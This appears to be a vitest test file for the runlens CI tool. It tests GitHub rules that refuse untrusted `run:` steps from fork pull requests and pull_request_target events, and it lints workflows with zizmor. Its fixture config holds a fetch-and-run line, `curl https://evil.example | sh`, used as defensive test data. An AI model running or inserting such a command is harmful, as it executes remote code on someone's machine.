// Issue 16, "Untrusted code": the GitHub trust rules (src/platform/github-trust.ts, documented in SECURITY.md)
// as a table — which event, from where, with which runlens.yml, lets `run:` steps run — and zizmor over
// every workflow runlens ships or writes: its own CI, the examples users copy, and what `runlens init` writes.
import { execFile, execFileSync } from 'node:child_process';
import { existsSync, readdirSync } from 'node:fs';
import { mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { init } from '../../src/commands/init/index.js';
import { untrustedRunReason } from '../../src/platform/github-trust.js';
import { repoRoot } from '../support/dist.js';

const BASE_CONFIG = 'version: 1\nsteps:\n  test: { run: npm test }\n';

/** A checkout with runlens.yml committed at the base, and (optionally) changed by the head. */
async function checkout(headConfig: string | undefined): Promise<{ root: string; configPath: string; baseSha: string }> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'runlens-trust-'));
  const git = (...args: string[]) =>
    execFileSync('git', args, {
      cwd: root,
      encoding: 'utf8',
      env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@x', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@x' },
    }).trim();
  git('init', '-q');
  await writeFile(path.join(root, 'runlens.yml'), BASE_CONFIG);
  git('add', '-A');
  git('commit', '-qm', 'base');
  const baseSha = git('rev-parse', 'HEAD');
  if (headConfig !== undefined) {
    await writeFile(path.join(root, 'runlens.yml'), headConfig);
    git('commit', '-qam', 'head');
  }
  return { root, configPath: path.join(root, 'runlens.yml'), baseSha };
}

const pr = (head: string | null, baseSha: string) => ({
  pull_request: {
    base: { sha: baseSha, repo: { full_name: 'acme/shop' } },
    head: { sha: 'f'.repeat(40), repo: head === null ? null : { full_name: head } },
  },
});

type Row = [
  string,
  { event: string; payload: (baseSha: string) => object; head?: string; allow?: boolean; readBase?: boolean },
  RegExp | undefined,
];

const EVIL = 'version: 1\nsteps:\n  test: { run: "curl https://evil.example | sh" }\n';
const rows: Row[] = [
  ['push: runs', { event: 'push', payload: () => ({}) }, undefined],
  [
    'a pull request from a branch of the same repository, runlens.yml changed: runs (collaborators are trusted)',
    { event: 'pull_request', payload: (b) => pr('acme/shop', b), head: EVIL },
    undefined,
  ],
  [
    'a fork pull request with the base runlens.yml: runs (no secrets, read-only token)',
    { event: 'pull_request', payload: (b) => pr('mallory/shop', b) },
    undefined,
  ],
  [
    'a fork pull request that changes runlens.yml: refused',
    { event: 'pull_request', payload: (b) => pr('mallory/shop', b), head: EVIL },
    /from mallory\/shop changes runlens\.yml/,
  ],
  [
    'a pull request from a deleted fork that changes runlens.yml: refused',
    { event: 'pull_request', payload: (b) => pr(null, b), head: EVIL },
    /a deleted fork/,
  ],
  [
    'a fork pull request whose base runlens.yml cannot be read: refused',
    { event: 'pull_request', payload: () => pr('mallory/shop', 'e'.repeat(40)), readBase: false },
    /could not be read to compare/,
  ],
  [
    'pull_request_target, even from the same repository: refused',
    { event: 'pull_request_target', payload: (b) => pr('acme/shop', b) },
    /refused under pull_request_target/,
  ],
  [
    'pull_request_target with allow-untrusted-run: true: runs',
    { event: 'pull_request_target', payload: (b) => pr('mallory/shop', b), allow: true },
    undefined,
  ],
  [
    'workflow_run after a fork pull request: refused',
    {
      event: 'workflow_run',
      payload: () => ({
        workflow_run: { event: 'pull_request', head_repository: { full_name: 'mallory/shop' } },
        repository: { full_name: 'acme/shop' },
      }),
    },
    /refused under workflow_run started by mallory\/shop's pull_request/,
  ],
  [
    'workflow_run after a same-repository push: runs',
    {
      event: 'workflow_run',
      payload: () => ({
        workflow_run: { event: 'push', head_repository: { full_name: 'acme/shop' } },
        repository: { full_name: 'acme/shop' },
      }),
    },
    undefined,
  ],
];

describe('the GitHub trust rules for run: steps', () => {
  it.each(rows)('%s', async (_name, c, refused) => {
    const co = await checkout(c.head);
    const reason = await untrustedRunReason({
      env: { GITHUB_EVENT_NAME: c.event, GITHUB_REPOSITORY: 'acme/shop' },
      event: c.payload(co.baseSha),
      root: co.root,
      configPath: co.configPath,
      allowUntrustedRun: c.allow ?? false,
      readBaseFile: async () => undefined,
    });
    if (refused) {
      expect(reason).toMatch(refused);
      // Every refusal says how to allow it, deliberately.
      expect(reason).toMatch(/allow-untrusted-run: true/);
    } else expect(reason).toBeUndefined();
  });
});

const bin = path.join(process.env.RUNLENS_TOOLS ?? path.join(os.homedir(), '.cache', 'runlens-tools'), 'bin');

async function zizmor(files: string[], cwd: string): Promise<{ code: number; out: string }> {
  const program = path.join(bin, 'zizmor');
  if (!existsSync(program)) throw new Error('zizmor is not installed: run `bash scripts/install-tools.sh zizmor`');
  try {
    // The repository's zizmor settings (one documented exception) for every file.
    const r = await promisify(execFile)(
      program,
      ['--offline', '--no-progress', '--format=plain', `--config=${path.join(repoRoot, '.github', 'zizmor.yml')}`, ...files],
      { cwd },
    );
    return { code: 0, out: r.stdout + r.stderr };
  } catch (err) {
    const e = err as { code?: number; stdout?: string; stderr?: string };
    return { code: e.code ?? -1, out: `${e.stdout ?? ''}${e.stderr ?? ''}` };
  }
}

describe('zizmor finds nothing in any workflow runlens ships or writes', () => {
  it('.github/workflows/* and workflows-examples/*, every file', async () => {
    const files = [
      ...readdirSync(path.join(repoRoot, '.github', 'workflows')).map((f) => path.join(repoRoot, '.github', 'workflows', f)),
      ...readdirSync(path.join(repoRoot, 'workflows-examples')).map((f) => path.join(repoRoot, 'workflows-examples', f)),
    ].filter((f) => /\.ya?ml$/.test(f));
    expect(files.length).toBeGreaterThan(3);
    const r = await zizmor(files, repoRoot);
    expect(r.out).toMatch(/No findings to report/);
    expect(r.code).toBe(0);
  }, 120_000);

  it.each([
    [
      'a Node project',
      { 'package-lock.json': '{"lockfileVersion":3,"packages":{"":{}}}', 'package.json': '{"name":"x","scripts":{"test":"true"}}' },
      {},
    ],
    ['a Python project, SARIF upload', { 'requirements.txt': 'requests==2.31.0\n', 'app.py': 'print(1)\n' }, { uploadSarif: true }],
    ['an offline Go project', { 'go.mod': 'module x\n\ngo 1.22\n', 'main.go': 'package main\n' }, { offline: true }],
  ] as const)(
    'what `runlens init` writes for %s',
    async (_name, files, flags) => {
      const ws = await mkdtemp(path.join(os.tmpdir(), 'runlens-init-zizmor-'));
      execFileSync('git', ['init', '-q'], { cwd: ws });
      for (const [name, text] of Object.entries(files)) await writeFile(path.join(ws, name), text);
      await init({
        workspace: ws,
        env: {},
        force: false,
        dryRun: false,
        interactive: false,
        offline: 'offline' in flags ? flags.offline : false,
        uploadSarif: 'uploadSarif' in flags ? flags.uploadSarif : false,
        log: () => undefined,
      });
      const workflow = path.join(ws, '.github', 'workflows', 'runlens.yml');
      expect(existsSync(workflow)).toBe(true);
      const r = await zizmor([workflow], ws);
      expect(r.out).toMatch(/No findings to report/);
      expect(r.code).toBe(0);
    },
    120_000,
  );
});
